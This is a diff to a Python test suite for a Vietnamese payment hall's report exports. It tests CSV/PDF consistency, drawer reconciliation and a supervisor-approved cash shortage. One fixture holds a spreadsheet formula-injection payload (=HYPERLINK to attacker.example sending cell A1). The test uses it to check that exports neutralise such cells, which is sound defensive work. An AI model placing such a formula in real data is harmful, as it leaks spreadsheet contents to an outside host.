@@ -23,7 +23,9 @@ import yaml
 from pypdf import PdfReader
 
 from printers.formats import vnd
-from qms.usecases import csv_safe
+from qms.usecases import csv_safe, report_export
+from qms.words import status_text
+from qms.words.in_words import amount_in_words
 from tests.conftest import Customers, HallServer
 from tests.hallclient import ApiError, Staff
 from tests.wsclient import ViewClient
@@ -32,6 +34,8 @@ TZ = ZoneInfo("Asia/Ho_Chi_Minh")
 OTHER = "PE0200"
 PASSWORD = "reports-pass"
 GIVEN_BACK = ("refused", "reversed")
+SHORT = 2_000
+APPROVAL_NOTE = "Thiếu 2.000 đ do thối nhầm, thu ngân đã nộp bù"
 #: a reason typed by a cashier that a spreadsheet would run as a formula, if written raw
 HOSTILE_REASON = '=HYPERLINK("http://attacker.example/?d="&A1,"thu nhầm khách hàng")'
 
@@ -158,6 +162,10 @@ def day(
             faults(hall)
         c1.post("/api/cash/movements", {"side": "out", "cashier": "head", "amount": 100_000})
         c4.post("/api/cash/movements", {"side": "in", "cashier": "cashier1", "amount": 100_000})
+        # C1 counts 2.000 đ short; the supervisor accepts the difference, saying why
+        should = c1.get("/api/cash/mine")["drawer"]["balance"]["expected"]
+        short = c1.post("/api/cash/drawer/close", {"counted": should - SHORT})
+        staff["sup"].post(f"/api/cash/drawers/{short['id']}/approve", {"note": APPROVAL_NOTE})
 
         head = other["head"]
         head.open_drawer()
@@ -300,22 +308,33 @@ def test_date_range_filter(staff: dict[str, Staff], day: dict[str, Any]) -> None
     assert sup.get(f"/api/reports?from={longest}")["reconciliation"]["summary"]["days"] == 92
 
 
-def csv_sections(raw: bytes) -> dict[str, list[dict[str, str]]]:
-    """Each ``#key`` section as rows keyed by the JSON key in the header's parentheses."""
+def csv_file(raw: bytes) -> dict[str, dict[str, Any]]:
+    """Each ``#key`` section: its ``rows`` keyed by the JSON key in the header's
+    parentheses, its ``total`` row (first cell "Tổng cộng …") and its ``notes``."""
     assert raw.startswith(codecs.BOM_UTF8)
     rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
     assert rows[0][0] == "#report"
-    out: dict[str, list[dict[str, str]]] = {}
+    out: dict[str, dict[str, Any]] = {}
     for n, row in enumerate(rows):
         if row and row[0].startswith("#") and n:
             keys = [re.search(r"\((\w+)\)$", h).group(1) for h in rows[n + 1]]  # type: ignore[union-attr]
-            body = []
+            section: dict[str, Any] = {"rows": [], "total": None, "notes": []}
             for r in rows[n + 2 :]:
                 if not r:
                     break
-                body.append(dict(zip(keys, r, strict=True)))
-            out[row[0][1:]] = body
+                if len(r) == 1:
+                    section["notes"].append(r[0])
+                elif r[0].startswith("Tổng cộng"):
+                    section["total"] = dict(zip(keys, r, strict=True))
+                else:
+                    section["rows"].append(dict(zip(keys, r, strict=True)))
+            out[row[0][1:]] = section
     return out
+
+
+def csv_sections(raw: bytes) -> dict[str, list[dict[str, str]]]:
+    """Each ``#key`` section's rows, keyed by the JSON key in the header's parentheses."""
+    return {key: section["rows"] for key, section in csv_file(raw).items()}
 
 
 def test_csv_parses_and_its_totals_match(staff: dict[str, Staff], day: dict[str, Any]) -> None:
@@ -330,13 +349,18 @@ def test_csv_parses_and_its_totals_match(staff: dict[str, Staff], day: dict[str,
     (summary,) = sections["summary"]
     assert figures(summary) == figures(report["totals"])
     txns = sections["transactions"]
-    assert sum(int(t["total"]) for t in txns if t["counts"] == "true") == report["totals"]["net"]
+    assert (
+        sum(int(t["total"]) for t in txns if t["counts"] == status_text("yes_no", "true"))
+        == report["totals"]["net"]
+    )
     assert {t["txn_id"] for t in txns} == {t["txn_id"] for t in report["transactions"]}
     cashiers = {c["cashier"]: figures(c) for c in sections["by_cashier"]}
     assert cashiers == {c["cashier"]: figures(c) for c in report["by_cashier"]}
     assert sum(int(c["net"]) for c in sections["by_cashier"]) == report["totals"]["net"]
     assert {c["name"] for c in sections["by_cashier"]} >= {"Phạm Thu Ngân", "Hoàng Văn Thu"}
-    assert [x["returned_reason"] for x in sections["returns"]] == ["not_enough_money"]
+    assert [x["returned_reason"] for x in sections["returns"]] == [
+        status_text("return_reason", "not_enough_money")
+    ]
     # a cell a spreadsheet would run as a formula is written as text
     (reversal,) = [t for t in txns if t["txn_id"] == day["reversed"]]
     assert reversal["reversal_reason"] == "'" + HOSTILE_REASON
@@ -387,11 +411,150 @@ def test_pdf_text_has_the_totals_in_vietnamese(
         "Đặng Văn Trưởng",
     ):
         assert words in text, words
-    assert f"Tổng cộng thực thu (net): {vnd(report['totals']['net'])}" in text
+    assert f"Tổng cộng thực thu / Net total: {vnd(report['totals']['net'])}" in text
     for key in ("collected", "refused", "reversed"):
         assert vnd(report["totals"][key]) in text, key
     for c in report["by_cashier"]:
         assert vnd(c["net"]) in text, c
+
+
+#: codes a program reads in the JSON; a person never reads them in a CSV or a PDF
+RAW_CODES = {
+    "true",
+    "false",
+    *("pending", "confirmed", "refused", "reversal_pending", "reversed"),
+    *("matched", "hanging", "mismatch", "cancelled", "open", "pending_approval", "closed"),
+    *("not_enough_money", "fewer_periods", "customer_left", "paid_elsewhere"),
+    *("only_ours", "only_cmis", "amount_differs", "even", "odd", "cashier", "head_cashier"),
+}
+
+
+def flat(text: str) -> str:
+    return " ".join(text.split())
+
+
+def pdf_form(value: str, column: report_export.Column) -> str:
+    """A CSV cell as the PDF writes it: money as 2.002.089 đ, seconds as m:ss."""
+    if value and column.kind == "money":
+        return vnd(int(value))
+    if value and column.kind == "seconds":
+        return f"{int(value) // 60}:{int(value) % 60:02d}"
+    return value
+
+
+@pytest.fixture(scope="module")
+def exports(staff: dict[str, Staff], day: dict[str, Any]) -> dict[str, Any]:
+    """The day's branch report as JSON, its CSV's sections and its PDF's text, once."""
+    sup = staff["sup"]
+    return {
+        "report": sup.get("/api/reports"),
+        "sheet": csv_file(sup.http.get("/api/reports?format=csv").content),
+        "text": pdf_text(sup.http.get("/api/reports?format=pdf").content),
+    }
+
+
+def test_csv_and_pdf_say_the_same(exports: dict[str, Any]) -> None:
+    """Every row and total of every table of the PDF is a row of the CSV, cell for cell,
+    in the same words; the net in words and the signers are in both."""
+    report, sheet, text = exports["report"], exports["sheet"], flat(exports["text"])
+    tables = [s for s in report_export.sections(report) if s.table]
+    assert {s.key for s in tables} < set(sheet)
+    checked = 0
+    for s in tables:
+        got, shown = sheet[s.key], [c for c in s.columns if c.pdf]
+        assert len(got["rows"]) == len(s.rows), s.key
+        for row in got["rows"]:
+            line = " ".join(filter(None, (pdf_form(row[c.key], c) for c in shown)))
+            assert line in text, (s.key, line)
+            checked += 1
+        assert (got["total"] is None) == (s.total is None), s.key
+        if got["total"] is not None:
+            figures_ = [pdf_form(got["total"][c.key], c) for c in shown[1:]]
+            line = " ".join(filter(None, [s.total_label, *figures_]))
+            assert line in text, (s.key, line)
+    assert checked >= 7 + 4 + 4  # transactions, drawers, cashiers at least
+    notes = [n for s in tables for n in sheet[s.key]["notes"]]
+    assert notes and all(flat(n) in text for n in notes)
+    counted = sum(r["counted"] or 0 for r in report["drawers"]["rows"])
+    assert f"Tổng tiền kiểm đếm / Counted in total: {vnd(counted)}. Bằng chữ / In words: " in text
+    (summary,) = sheet["summary"]["rows"]
+    assert summary["net_in_words"] == amount_in_words(report["totals"]["net"])
+    assert summary["net_in_words"].startswith("Ba triệu bảy trăm")  # 3.728.649 đ
+    assert f"Bằng chữ / In words: {summary['net_in_words']}" in text
+    signers = sheet["signatures"]["rows"]
+    assert [r["role"] for r in signers] == [
+        "Người lập biểu",
+        "Thủ quỹ",
+        "Kế toán trưởng / Trưởng phòng",
+    ]
+    # who asked, and the day's head cashier (the chief accountant signs by hand)
+    assert [r["name"] for r in signers] == ["Bùi Thị Giám Sát", "Đặng Văn Trưởng", ""]
+    for r in signers:
+        signed = f"{r['role'].upper()} {r['role_en']} (Ký, ghi rõ họ tên / Signature, full name)"
+        assert flat(f"{signed} {r['name']}") in text, r
+
+
+def test_no_code_or_true_false_reaches_a_person(exports: dict[str, Any]) -> None:
+    sheet = exports["sheet"]
+    cells = {v for s in sheet.values() for r in s["rows"] for v in r.values()}
+    assert not cells & RAW_CODES
+    statuses = {r["status"] for r in sheet["transactions"]["rows"]}
+    assert statuses == {status_text("payment", s) for s in ("confirmed", "reversed", "refused")}
+    assert {r["counts"] for r in sheet["transactions"]["rows"]} == {
+        status_text("yes_no", "true"),
+        status_text("yes_no", "false"),
+    }
+    assert all(
+        re.fullmatch(r"\d\d/\d\d/\d{4} \d\d:\d\d", r["at"]) for r in sheet["transactions"]["rows"]
+    )
+    assert all(re.fullmatch(r"\d\d/\d\d/\d{4}", r["date"]) for r in sheet["by_day"]["rows"])
+    text = exports["text"]
+    assert not re.search(r"\b(true|false|None)\b", text)
+    assert not [c for c in RAW_CODES if "_" in c and c in text]
+    assert not re.search(r"\d{4}-\d\d-\d\d", text)  # no ISO date
+
+
+def test_each_drawer_adds_up(exports: dict[str, Any]) -> None:
+    """Float + collected − given back + moved in − moved out = what should be there; the
+    count less that is the difference a supervisor approved, with their note."""
+    report, sheet = exports["report"], exports["sheet"]["drawers"]
+    rows = {r["cashier_name"]: r for r in sheet["rows"]}
+    assert set(rows) == {"Phạm Thu Ngân", "Hoàng Văn Thu", "Võ Thị Tiền", "Đặng Văn Trưởng"}
+
+    def n(row: dict[str, str], key: str) -> int:
+        return int(row[key] or 0)
+
+    for r in sheet["rows"]:
+        inflow = n(r, "float") + n(r, "collected") - n(r, "given_back") + n(r, "money_in")
+        assert inflow - n(r, "money_out") == n(r, "expected"), r
+    c1 = rows["Phạm Thu Ngân"]
+    assert (c1["status"], n(c1, "money_out")) == (status_text("drawer", "closed"), 100_000)
+    assert n(c1, "counted") - n(c1, "expected") == n(c1, "difference") == -SHORT
+    assert (c1["approved_by"], c1["approval_note"]) == ("Bùi Thị Giám Sát", APPROVAL_NOTE)
+    assert rows["Đặng Văn Trưởng"]["money_in"] == "100000"
+    assert (
+        rows["Hoàng Văn Thu"]["status"] == status_text("drawer", "open")
+        and rows["Hoàng Văn Thu"]["counted"] == ""
+    )
+    total = sheet["total"]
+    for key in ("float", "collected", "given_back", "money_in", "money_out", "expected"):
+        assert n(total, key) == sum(n(r, key) for r in sheet["rows"]), key
+    t = report["totals"]
+    assert (n(total, "collected"), n(total, "given_back")) == (t["collected"], t["given_back"])
+    assert n(total, "expected") == t["net"]  # floats of 0; money moved stays in the hall
+    assert n(total, "difference") == -SHORT
+    text = flat(exports["text"])
+    assert "Két tiền từng thu ngân / Cash drawers" in text and APPROVAL_NOTE in text
+
+
+def test_transactions_name_their_customers(exports: dict[str, Any]) -> None:
+    report, text = exports["report"], flat(exports["text"])
+    for t in report["transactions"]:
+        name = t["customer_name"]
+        assert name and name != t["customer_code"], t
+        assert (
+            f"{t['txn_id']} {t['counter']} {t['cashier_name']} {t['customer_code']} {name} " in text
+        )
 
 
 def test_roles(hall: HallServer, staff: dict[str, Staff], day: dict[str, Any]) -> None:
@@ -477,7 +640,7 @@ def test_company_view_across_branches(staff: dict[str, Staff], day: dict[str, An
     assert r.headers["content-disposition"].startswith('attachment; filename="report-company-')
     text = pdf_text(r.content)
     assert "Điện lực Chợ Lớn" in text and "Trương Thị Quỹ" in text
-    assert f"Tổng cộng thực thu (net): {vnd(company['totals']['net'])}" in text
+    assert f"Tổng cộng thực thu / Net total: {vnd(company['totals']['net'])}" in text
     r = admin.http.get("/api/reports?level=company&format=csv")
     assert {b["branch"] for b in csv_sections(r.content)["by_branch"]} == {"PE0100", OTHER}
 
